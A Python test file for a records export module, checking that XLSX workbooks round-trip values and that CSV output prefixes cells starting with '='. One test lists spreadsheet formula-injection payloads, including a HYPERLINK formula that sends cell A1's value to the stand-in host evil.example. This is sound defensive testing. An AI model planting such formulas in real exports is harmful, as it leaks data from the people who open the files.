"""The export workbook writer, read back by an independent implementation (openpyxl)."""

from __future__ import annotations

import io
import zipfile

from openpyxl import load_workbook

from learning.records.exports import csv_stream, xlsx_bytes
from learning.records.xlsx import workbook_bytes


def read(data: bytes) -> tuple[str, list[tuple]]:
    book = load_workbook(io.BytesIO(data), read_only=True)
    sheet = book.worksheets[0]
    return sheet.title, [tuple(row) for row in sheet.iter_rows(values_only=True)]


def test_values_round_trip():
    rows = [
        ["<b>&amp; \"quoted\" 'single'", 3, 2.5, True, None, "محمد Ольга 李"],
        ["  spaces kept  ", 0, -1.25, False, "", "line\nbreak"],
    ]
    title, read_rows = read(workbook_bytes("Records", ["a", "b", "c", "d", "e", "f"], rows))
    assert title == "Records"
    assert read_rows[0] == ("a", "b", "c", "d", "e", "f")
    assert read_rows[1] == ("<b>&amp; \"quoted\" 'single'", 3, 2.5, True, None, "محمد Ольга 李")
    assert read_rows[2] == ("  spaces kept  ", 0, -1.25, False, None, "line\nbreak")


def test_characters_xml_cannot_carry_are_dropped():
    _, rows = read(workbook_bytes("x", ["h"], [["a\x00b\x07c\x1fd\ud800e"]]))
    assert rows[1] == ("abcde",)


def test_sheet_title_is_made_valid():
    title, _ = read(workbook_bytes('Roster: "A/B" [2026]? with a very long name indeed', ["h"], []))
    assert len(title) <= 31 and not set(title) & set(":\\/?*[]")


def test_empty_export_has_the_header_only():
    data = workbook_bytes("Empty", ["one", "two"], [])
    assert zipfile.ZipFile(io.BytesIO(data)).testzip() is None
    assert read(data)[1] == [("one", "two")]


def test_formula_triggers_come_back_exactly_as_typed_from_the_workbook():
    """Inline strings are never evaluated, so the XLSX holds the text with no apostrophe."""
    payloads = [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    ]
    _, rows = read(xlsx_bytes("Records", ["value"], [[p] for p in payloads]))
    assert [row[0] for row in rows[1:]] == payloads


def test_a_name_starting_with_equals_comes_back_exactly_and_the_csv_keeps_its_prefix():
    _, rows = read(xlsx_bytes("Roster", ["name"], [["=Amina"]]))
    assert rows[1][0] == "=Amina"
    assert "".join(csv_stream(["name"], [["=Amina"]])).endswith("'=Amina\r\n")
